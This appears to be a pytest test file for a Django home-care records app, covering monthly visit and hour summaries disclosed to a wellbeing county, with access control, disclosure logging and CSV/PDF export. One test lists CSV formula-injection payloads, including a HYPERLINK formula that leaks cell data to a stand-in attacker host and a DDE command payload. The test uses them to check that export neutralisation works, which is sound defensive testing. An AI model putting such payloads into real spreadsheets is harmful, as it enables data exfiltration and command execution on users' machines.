"""Monthly summary to the commissioning authority. Seed 002: "Henkilötietoja luovutamme palvelua
tilanteen hyvinvointialueen viranomaiselle kuukausikoosteiden ja palvelun yhteenvetojen
muodossa." Delivered visits and hours per client per month, as CSV and PDF; each summary sent
is a disclosure."""

import csv
import datetime
import decimal
import io

import pytest
from django.core.exceptions import PermissionDenied
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pypdf import PdfReader

from clients import selectors, services
from clients.constants import AccessKind, ControllerKind, EntryKind, RecipientKind, ServiceTask
from clients.models import AccessEntry, Case, Client, Disclosure, GrantedService, ServiceEntry
from clients.selectors.reports import minutes_to_hours
from clients.services.reports import SUMMARY_LEGAL_BASIS
from core.csv import csv_cell
from tests.conftest import make_client, make_controller, make_register

OCTOBER = (2026, 10)


@pytest.fixture
def county(db):
    return make_controller("Varsinais-Suomen hyvinvointialue", kind=ControllerKind.WELLBEING_COUNTY)


@pytest.fixture
def other_county(db):
    return make_controller("Pirkanmaan hyvinvointialue", kind=ControllerKind.WELLBEING_COUNTY)


def visit(client: Client, worker, day: datetime.date, minutes: int, *, service=None,
          kind: str = EntryKind.VISIT, content: str = "Kotikäynti") -> ServiceEntry:
    return ServiceEntry.objects.create(client=client, worker=worker, date=day, duration_minutes=minutes,
                                       granted_service=service, kind=kind, content=content)


def commission(client: Client, authority, reference: str = "MS-2026-001") -> Client:
    Client.objects.filter(pk=client.pk).update(commissioning_authority=authority,
                                               payment_commitment_reference=reference)
    client.refresh_from_db()
    return client


def granted(client: Client, authority, reference: str) -> GrantedService:
    case = Case.objects.create(client=client, service_task=ServiceTask.OLDER_PEOPLE, title="Kotihoito",
                               opened_on=datetime.date(2026, 1, 1))
    return GrantedService.objects.create(case=case, content="Kotipalvelu", valid_from=datetime.date(2026, 1, 1),
                                         granted_hours=decimal.Decimal("10"),
                                         commissioning_authority=authority,
                                         payment_commitment_reference=reference)


def summary(actor, authority, year_month=OCTOBER):
    year, month = year_month
    return selectors.monthly_summary(authority=authority, year=year, month=month,
                                     clients_qs=selectors.clients_visible_to(actor))


def test_three_visits_of_20_25_and_35_minutes_are_80_minutes_and_1_33_hours(
    contact, caseworker, client_a, county
):
    commission(client_a, county)
    for day, minutes in [(1, 20), (15, 25), (31, 35)]:
        visit(client_a, caseworker, datetime.date(2026, 10, day), minutes)
    [row] = summary(contact, county)
    assert row.client == client_a
    assert row.visits == 3
    assert row.minutes == 80
    assert row.hours == decimal.Decimal("1.33")
    assert row.payment_commitments == ("MS-2026-001",)


def test_only_the_months_delivered_visits_for_that_authority_count(
    contact, caseworker, client_a, client_b, county, other_county
):
    commission(client_a, county)
    visit(client_a, caseworker, datetime.date(2026, 10, 10), 60)
    visit(client_a, caseworker, datetime.date(2026, 9, 30), 45)             # another month
    visit(client_a, caseworker, datetime.date(2026, 11, 1), 45)             # another month
    visit(client_a, caseworker, datetime.date(2026, 10, 11), 15, kind=EntryKind.PHONE)
    visit(client_a, caseworker, datetime.date(2026, 10, 12), 30, kind=EntryKind.RECORD)
    other_service = granted(client_a, other_county, "PIR-9")
    visit(client_a, caseworker, datetime.date(2026, 10, 13), 90, service=other_service)
    # client_b has no commissioning authority of its own; its granted service names the county.
    county_service = granted(client_b, county, "VS-77")
    visit(client_b, caseworker, datetime.date(2026, 10, 20), 50, service=county_service)
    rows = {row.client.pk: row for row in summary(contact, county)}
    assert set(rows) == {client_a.pk, client_b.pk}
    assert (rows[client_a.pk].visits, rows[client_a.pk].minutes) == (1, 60)
    assert (rows[client_b.pk].visits, rows[client_b.pk].minutes) == (1, 50)
    assert rows[client_b.pk].payment_commitments == ("VS-77",)
    [pirkanmaa] = summary(contact, other_county)
    assert (pirkanmaa.client, pirkanmaa.minutes, pirkanmaa.payment_commitments) == (client_a, 90, ("PIR-9",))


def test_summary_figures_match_the_database_to_the_minute(contact, caseworker, register, county):
    """Hours summed exactly: totals come from total minutes, never from rounded hours."""
    clients = [commission(make_client(caseworker, register, last_name=f"Asiakas{i}"), county)
               for i in range(3)]
    for person in clients:
        visit(person, caseworker, datetime.date(2026, 10, 5), 10)
    rows = summary(contact, county)
    totals = selectors.monthly_summary_totals(rows)
    assert [row.hours for row in rows] == [decimal.Decimal("0.17")] * 3
    assert totals.minutes == 30 == sum(
        ServiceEntry.objects.filter(date__month=10).values_list("duration_minutes", flat=True))
    assert totals.hours == decimal.Decimal("0.50")  # not 0.51
    assert totals.visits == 3 and totals.clients == 3


@hypothesis_settings(max_examples=200, deadline=None)
@given(st.lists(st.integers(min_value=0, max_value=24 * 60), max_size=40))
def test_hours_are_exact_decimals_of_the_minutes(minutes):
    total = sum(minutes)
    hours = minutes_to_hours(total)
    assert isinstance(hours, decimal.Decimal)
    assert abs(hours * 60 - total) <= decimal.Decimal("0.3")  # at most half a cent of an hour
    assert hours == (decimal.Decimal(total) / 60).quantize(decimal.Decimal("0.01"),
                                                           rounding=decimal.ROUND_HALF_UP)


def test_a_caseworker_sees_only_their_own_clients_in_a_summary(caseworker, client_a, client_b, county):
    commission(client_a, county)
    commission(client_b, county)
    visit(client_a, caseworker, datetime.date(2026, 10, 1), 30)
    visit(client_b, caseworker, datetime.date(2026, 10, 1), 30)
    assert [row.client for row in summary(caseworker, county)] == [client_a]


def test_another_organisations_clients_are_never_in_the_summary(
    other_contact, caseworker, other_register, contact, register, county
):
    ours = commission(make_client(caseworker, register, last_name="Oma"), county)
    theirs = commission(make_client(other_contact, other_register, last_name="Vieras"), county)
    visit(ours, caseworker, datetime.date(2026, 10, 1), 30)
    visit(theirs, other_contact, datetime.date(2026, 10, 1), 30)
    assert [row.client for row in summary(contact, county)] == [ours]
    assert [row.client for row in summary(other_contact, county)] == [theirs]


def test_producing_a_summary_records_one_disclosure_per_client(
    contact, caseworker, register, county
):
    people = [commission(make_client(caseworker, register, last_name=name), county)
              for name in ("Aaltonen", "Björk")]
    for person in people:
        visit(person, caseworker, datetime.date(2026, 10, 3), 45)
        visit(person, caseworker, datetime.date(2026, 10, 4), 45)
    produced = services.monthly_summary_produce(actor=contact, authority=county, year=2026, month=10,
                                                file_format="csv")
    assert [row.client for row in produced.disclosed] == people
    for person in people:
        [disclosure] = Disclosure.objects.filter(client=person)
        assert disclosure.recipient_kind == RecipientKind.COMMISSIONING_AUTHORITY
        assert disclosure.recipient_controller == county
        assert disclosure.recipient_name == county.name
        assert disclosure.legal_basis == SUMMARY_LEGAL_BASIS
        assert "703/2023" in disclosure.legal_basis
        assert disclosure.content == "Kuukausikooste 10/2026: käynnit ja tunnit"
        assert disclosure.recorded_by == contact
        assert AccessEntry.objects.filter(client=person, user=contact, kind=AccessKind.EXPORT).count() == 1


def test_a_restricted_client_is_left_out_of_the_summary_and_not_disclosed(
    contact, caseworker, client_a, client_b, county
):
    commission(client_a, county)
    commission(client_b, county)
    Client.objects.filter(pk=client_b.pk).update(restricted=True, restriction_reason="Art 18 pyyntö")
    visit(client_a, caseworker, datetime.date(2026, 10, 1), 30)
    visit(client_b, caseworker, datetime.date(2026, 10, 1), 30)
    produced = services.monthly_summary_produce(actor=contact, authority=county, year=2026, month=10,
                                                file_format="csv")
    assert [row.client.pk for row in produced.disclosed] == [client_a.pk]
    assert [item.row.client.pk for item in produced.withheld] == [client_b.pk]
    assert "Virtanen" not in produced.content.decode("utf-8-sig")
    assert not Disclosure.objects.filter(client=client_b).exists()


def test_a_caseworker_may_not_produce_summaries(client, caseworker, client_a, county):
    commission(client_a, county)
    visit(client_a, caseworker, datetime.date(2026, 10, 1), 30)
    with pytest.raises(PermissionDenied):
        services.monthly_summary_produce(actor=caseworker, authority=county, year=2026, month=10,
                                         file_format="csv")
    client.force_login(caseworker)
    client.cookies["django_language"] = "en"
    response = client.get("/clients/reports/monthly/")
    assert response.status_code == 403
    assert "Only register contacts and admins" in response.content.decode()
    response = client.post("/clients/reports/monthly/",
                           {"authority": county.pk, "month": "2026-10", "format": "csv"})
    assert response.status_code == 403
    assert not Disclosure.objects.exists()


def test_csv_is_semicolon_separated_utf8_with_bom_and_decimal_commas(
    contact, caseworker, client_a, county
):
    commission(client_a, county, reference="MS-1")
    for minutes in (20, 25, 35):
        visit(client_a, caseworker, datetime.date(2026, 10, 2), minutes)
    rows = summary(contact, county)
    content = selectors.monthly_summary_csv(rows=rows)
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == 2
    assert lines[1] == ["Mäkinen Matti", client_a.identity_code, "MS-1", "3", "80", "1,33"]


@pytest.mark.parametrize("payload", [
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1",
])
def test_csv_formula_payloads_are_neutralised(contact, caseworker, register, county, payload):
    person = commission(make_client(caseworker, register, last_name=payload, first_names="Hyökkääjä"),
                        county, reference=payload)
    visit(person, caseworker, datetime.date(2026, 10, 2), 30)
    content = selectors.monthly_summary_csv(rows=summary(contact, county)).decode("utf-8-sig")
    [header, line] = list(csv.reader(io.StringIO(content), delimiter=";"))
    name, _code, reference = line[0], line[1], line[2]
    assert name.startswith("'") and name[1:] == f"{payload} Hyökkääjä".strip()
    assert reference == "'" + payload
    for cell in line:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_harmless_cells_are_left_alone():
    assert csv_cell("Mäkinen Matti") == "Mäkinen Matti"
    assert csv_cell("010190-123A") == "010190-123A"
    assert csv_cell(5) == 5
    assert csv_cell("") == ""


def test_the_page_previews_without_disclosing_and_the_download_discloses(
    client, contact, caseworker, client_a, county
):
    commission(client_a, county)
    for minutes in (20, 25, 35):
        visit(client_a, caseworker, datetime.date(2026, 10, 2), minutes)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    page = client.get("/clients/reports/monthly/", {"authority": county.pk, "month": "2026-10"})
    assert page.status_code == 200
    html = page.content.decode()
    assert "Mäkinen Matti" in html and ">80<" in html and "1.33" in html
    assert not Disclosure.objects.exists()

    response = client.post("/clients/reports/monthly/",
                           {"authority": county.pk, "month": "2026-10", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert f"kuukausikooste-{county.slug}-2026-10.csv" in response["Content-Disposition"]
    assert "Mäkinen Matti" in response.content.decode("utf-8-sig")
    assert Disclosure.objects.filter(client=client_a).count() == 1


def test_the_pdf_summary_names_the_authority_clients_and_totals(
    client, contact, caseworker, client_a, client_b, county
):
    commission(client_a, county)
    commission(client_b, county, reference="MS-2026-002")
    for person, minutes in [(client_a, 20), (client_a, 25), (client_a, 35), (client_b, 60)]:
        visit(person, caseworker, datetime.date(2026, 10, 9), minutes)
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    response = client.post("/clients/reports/monthly/",
                           {"authority": county.pk, "month": "2026-10", "format": "pdf"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Varsinais-Suomen hyvinvointialue" in text
    assert "Mäkinen Matti" in text and "Virtanen Aino" in text
    assert "10/2026" in text
    assert "140" in text and "2.33" in text  # 140 minutes in total = 2.33 h
    assert "page 1 / 1" in text
    assert Disclosure.objects.count() == 2


def test_an_unknown_authority_or_a_malformed_month_is_a_form_error(client, contact, county):
    client.force_login(contact)
    client.cookies["django_language"] = "en"
    response = client.post("/clients/reports/monthly/",
                           {"authority": county.pk, "month": "2026-13", "format": "csv"})
    assert response.status_code == 200
    assert "YYYY-MM" in response.content.decode()
    assert not Disclosure.objects.exists()


def test_authorities_offered_are_those_of_the_users_clients(contact, client_a, county, other_county):
    commission(client_a, county)
    make_register(other_county)
    assert list(selectors.commissioning_authorities_for(contact)) == [county]
